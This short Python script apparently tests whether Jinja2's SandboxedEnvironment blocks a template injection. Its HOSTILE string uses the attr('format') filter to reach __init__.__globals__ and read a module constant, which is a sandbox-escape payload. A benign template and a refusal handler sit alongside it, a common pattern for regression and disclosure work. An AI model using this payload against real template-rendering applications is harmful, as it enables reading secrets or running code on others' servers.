"""Render an untrusted template in the sandbox; the flaw is that it sees this module's constant."""

import sys

from jinja2.exceptions import SecurityError
from jinja2.sandbox import SandboxedEnvironment

MARKER = "FLAW" + " SHOWN"  # in two parts, so that a traceback with this line is no marker


class User:
    """What the template is given."""

    def __init__(self, name):
        self.name = name


HOSTILE = "{{ ('{0.__init__.__globals__[MARKER]}' | attr('format'))(user) }}"
BENIGN = "{{ 'Hello {0.name}'.format(user) }}"

try:
    print(SandboxedEnvironment().from_string(BENIGN if "benign" in sys.argv else HOSTILE).render(user=User("Ada")))
except SecurityError as error:
    print("refused:", error)
